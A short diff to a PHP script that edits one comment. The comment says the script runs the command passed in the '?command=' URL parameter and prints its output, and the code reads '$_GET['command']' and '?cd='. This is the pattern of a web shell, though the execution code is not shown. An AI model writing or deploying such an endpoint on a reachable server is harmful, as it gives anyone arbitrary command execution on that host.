@@ -1,5 +1,5 @@
 <?php
-// Starts ?command= in the way that ?by= names, and prints what the child wrote. ?path= is run as an
+// Starts ?command= in the way that ?by= names, and prints the child's output. ?path= is run as an
 // array, without a shell.
 $command = $_GET['command'] ?? '';
 if (isset($_GET['cd'])) {
